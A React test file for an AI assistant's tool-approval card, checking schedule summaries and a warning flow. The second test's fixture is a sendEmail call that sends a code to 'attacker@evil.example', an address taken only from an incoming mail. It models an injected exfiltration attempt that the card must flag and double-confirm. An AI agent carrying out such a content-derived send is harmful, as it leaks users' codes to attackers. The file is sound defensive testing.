import { render, screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";
import { APPROVAL_CARD_TEXTS } from "@sage/contracts/external-tools";
import { ApprovalCard } from "./approval-card";

describe("ApprovalCard", () => {
  it("shows a schedule in plain words with its next runs, the arguments one click away, and answers Approve", async () => {
    const onAnswer = vi.fn(async () => {});
    const summary = [
      "Market brief: every weekday at 07:00 (Europe/Zurich)",
      'SAGE will ask: "Brief me on the markets"',
      "Next runs: Mon, 30 Nov 2026, 07:00; Tue, 1 Dec 2026, 07:00; Wed, 2 Dec 2026, 07:00",
    ];
    render(
      <ul>
        <ApprovalCard
          approval={{
            approvalId: "a1",
            name: "scheduleTask",
            args: { rrule: "DTSTART;TZID=Europe/Zurich:20261127T070000" },
            risk: "asked",
            provenance: {},
            summary,
          }}
          onAnswer={onAnswer}
        />
      </ul>,
    );
    const list = screen.getByRole("list", { name: "What it will do" });
    expect(
      within(list)
        .getAllByRole("listitem")
        .map((item) => item.textContent),
    ).toEqual(summary);
    expect(screen.getByText("Details")).toBeTruthy();
    expect(screen.getByLabelText("Arguments").closest("details")?.open).toBe(false);
    await userEvent.click(screen.getByRole("button", { name: "Approve" }));
    expect(onAnswer).toHaveBeenCalledWith(true, undefined);
  });

  it("a card with a content-derived value is red, names where it came from, and approves only on a second, deliberate confirmation", async () => {
    const onAnswer = vi.fn(async () => {});
    const reason = "This address appears only in the mail from noreply@shop.example of 14 May; you never wrote it.";
    render(
      <ul>
        <ApprovalCard
          approval={{
            approvalId: "a2",
            name: "sendEmail",
            args: { to: ["attacker@evil.example"], subject: "Code", body: "463820" },
            risk: "content-derived",
            provenance: { to: { from: "content", source: { title: "the mail from noreply@shop.example of 14 May", messageId: 4 } } },
            reason,
          }}
          onAnswer={onAnswer}
        />
      </ul>,
    );
    const card = screen.getByTestId("approval-card");
    expect(card.dataset.risk).toBe("content-derived");
    expect(screen.getByTestId("approval-warning").textContent).toBe(APPROVAL_CARD_TEXTS.contentDerivedTitle);
    expect(screen.getByTestId("approval-reason").textContent).toBe(reason);
    await userEvent.click(screen.getByRole("button", { name: "Approve" }));
    expect(onAnswer).not.toHaveBeenCalled();
    const confirm = screen.getByRole("alertdialog", { name: APPROVAL_CARD_TEXTS.confirmQuestion });
    // Focus moves to the confirming button, so a keyboard user answers the question that just appeared.
    expect(document.activeElement).toBe(within(confirm).getByRole("button", { name: APPROVAL_CARD_TEXTS.confirmApprove }));
    await userEvent.click(within(confirm).getByRole("button", { name: APPROVAL_CARD_TEXTS.confirmCancel }));
    expect(onAnswer).not.toHaveBeenCalled();
    await userEvent.click(screen.getByRole("button", { name: "Approve" }));
    await userEvent.keyboard("{Enter}");
    expect(onAnswer).toHaveBeenCalledWith(true, "content-derived");
  });
});
